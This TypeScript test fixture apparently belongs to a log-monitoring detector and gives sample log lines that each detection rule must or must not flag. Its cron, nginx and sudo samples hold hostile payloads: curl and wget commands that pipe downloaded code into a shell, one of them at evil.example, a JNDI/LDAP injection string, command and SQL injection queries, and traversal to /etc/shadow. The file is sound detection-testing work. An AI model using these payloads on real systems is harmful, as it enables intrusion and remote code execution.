/** Lines that each of our own rules must find, and lines like them that it must not. */
import type { LogLine } from '../../index/log-line.ts';

type Lines = readonly Partial<LogLine>[];

const times = (n: number, line: (i: number) => Partial<LogLine>): Lines => Array.from({ length: n }, (_, i) => line(i));
const ssh = (msg: string): Partial<LogLine> => ({ app: 'sshd', msg });
const failed = (user: string, ip = '203.0.113.9') => ssh(`Failed password for ${user} from ${ip} port 4711 ssh2`);
const accepted = (user: string, ip = '203.0.113.9', method = 'password') =>
  ssh(`Accepted ${method} for ${user} from ${ip} port 4712 ssh2`);
const sudo = (msg: string): Partial<LogLine> => ({ app: 'sudo', msg });
const account = (app: string, msg: string): Partial<LogLine> => ({ app, msg });
const cron = (command: string): Partial<LogLine> => ({ app: 'CRON', msg: `(root) CMD (${command})` });
const kernel = (msg: string): Partial<LogLine> => ({ app: 'kernel', msg });
const block = (ip: string, to: string, port: number) =>
  kernel(`[UFW BLOCK] IN=eth0 OUT= MAC=aa:bb SRC=${ip} DST=${to} LEN=40 TTL=244 ID=1 PROTO=TCP SPT=5555 DPT=${port} WINDOW=1024`);
const web = (request: string, status: number, ip = '198.51.100.7', agent = 'Mozilla/5.0'): Partial<LogLine> => ({
  app: 'nginx',
  msg: `${ip} - - [28/Nov/2026:12:00:00 +0000] "${request} HTTP/1.1" ${status} 153 "-" "${agent}"`,
});

export const RULE_LINES: Readonly<Record<string, { must: readonly Lines[]; mustNot: readonly Lines[] }>> = {
  'ssh-brute-force': {
    must: [times(10, () => failed('root')), times(10, (i) => failed(`invalid user u${i}`))],
    mustNot: [
      times(9, () => failed('root')),
      times(20, (i) => failed('root', `203.0.113.${i}`)),
      times(20, () => ({ ...failed('root'), app: 'web' })),
    ],
  },
  'ssh-many-accounts': {
    must: [times(5, (i) => failed(`invalid user u${i}`))],
    mustNot: [times(9, () => failed('ann')), times(4, (i) => failed(`u${i}`))],
  },
  'ssh-entry-after-failures': {
    must: [[...times(10, () => failed('ann')), accepted('ann')]],
    mustNot: [
      [accepted('ann'), ...times(10, () => failed('ann'))],
      [...times(3, () => failed('ann')), accepted('ann')],
      [...times(10, () => failed('ann')), accepted('ann', '10.0.0.1')],
    ],
  },
  'ssh-root': {
    must: [[accepted('root')]],
    mustNot: [[accepted('root', '10.0.0.1', 'publickey')], [accepted('rooter')], [failed('root')]],
  },
  'sudo-failures': {
    must: [times(3, () => sudo('ann : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/ls'))],
    mustNot: [
      times(2, () => sudo('ann : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/ls')),
      times(5, () => sudo('ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/ls')),
    ],
  },
  'sudo-not-allowed': {
    must: [[sudo('eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/id')]],
    mustNot: [
      [sudo('ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/echo user NOT in sudoers')],
      [account('app', 'eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id')],
    ],
  },
  'sudo-shell': {
    must: [
      [sudo('ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/bash')],
      [sudo('ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/zsh -l')],
    ],
    mustNot: [
      [sudo('ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash /opt/backup.sh')],
      [sudo('ann : TTY=pts/0 ; PWD=/ ; USER=postgres ; COMMAND=/bin/bash')],
    ],
  },
  'su-failures': {
    must: [times(3, () => account('su', 'FAILED SU (to root) eve on pts/1'))],
    mustNot: [
      times(2, () => account('su', 'FAILED SU (to root) eve on pts/1')),
      times(5, () => account('su', '(to root) ann on pts/1')),
    ],
  },
  'account-added': {
    must: [[account('useradd', 'new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash, from=none')]],
    mustNot: [[account('useradd', 'failed adding user eve')], [account('app', 'new user: name=eve, UID=1001')]],
  },
  'account-made-administrator': {
    must: [[account('usermod', "add 'eve' to group 'sudo'")], [account('gpasswd', 'user eve added by root to group docker')]],
    mustNot: [[account('usermod', "add 'eve' to group 'games'")]],
  },
  'root-password-changed': {
    must: [[account('passwd', 'pam_unix(passwd:chauthtok): password changed for root')]],
    mustNot: [[account('passwd', 'pam_unix(passwd:chauthtok): password changed for ann')]],
  },
  'cron-download': {
    must: [[cron('curl -s http://203.0.113.1/x | sh')], [cron('wget -qO- http://evil.example/a |/bin/bash')]],
    mustNot: [[cron('curl -s https://status.example/ping')], [cron('/opt/backup.sh | logger')], [cron('wget -q http://a/b.sh')]],
  },
  'port-scan': {
    must: [times(20, (i) => block('203.0.113.5', '10.0.0.1', 1000 + i))],
    mustNot: [times(40, () => block('203.0.113.5', '10.0.0.1', 22)), times(40, (i) => block(`203.0.113.${i}`, '10.0.0.1', i))],
  },
  'host-sweep': {
    must: [times(20, (i) => block('203.0.113.5', `10.0.0.${i}`, 445))],
    mustNot: [times(40, () => block('203.0.113.5', '10.0.0.1', 445))],
  },
  'web-many-not-found': {
    must: [times(30, (i) => web(`GET /p${i}`, 404))],
    mustNot: [times(60, (i) => web(`GET /p${i}`, 200)), times(40, (i) => web('GET /a', 404, `198.51.100.${i}`))],
  },
  'web-sign-in-failures': {
    must: [times(20, () => web('POST /login', 401))],
    mustNot: [times(30, () => web('GET /login', 401)), times(30, () => web('POST /login', 302))],
  },
  'web-path-traversal': {
    must: [[web('GET /static/../../etc/shadow', 400)], [web('GET /a/%2e%2e/%2E%2E/b', 404)], [web('GET /.git/config', 200)]],
    mustNot: [[web('GET /a..b/c', 200)], [web('GET /git/config', 200)]],
  },
  'web-injection': {
    must: [
      [web('GET /?id=1+UNION+SELECT+1,2', 200)],
      [web('GET /', 200, '198.51.100.7', `${'$'}{jndi:ldap://203.0.113.1/a}`)],
      [web('GET /cgi?x=;wget+http://a', 404)],
    ],
    mustNot: [[web('GET /union/select', 200)], [web('GET /?q=sleep', 200)]],
  },
  'listening-mode': {
    must: [[kernel('device eth0 entered promiscuous mode')]],
    mustNot: [[kernel('device veth12 entered promiscuous mode')], [account('app', 'device eth0 entered promiscuous mode')]],
  },
  'memory-exhausted': {
    must: [[kernel('Out of memory: Killed process 4711 (java) total-vm:1kB')]],
    mustNot: [[kernel('Memory is fine')], [account('app', 'Out of memory: Killed process 1')]],
  },
};
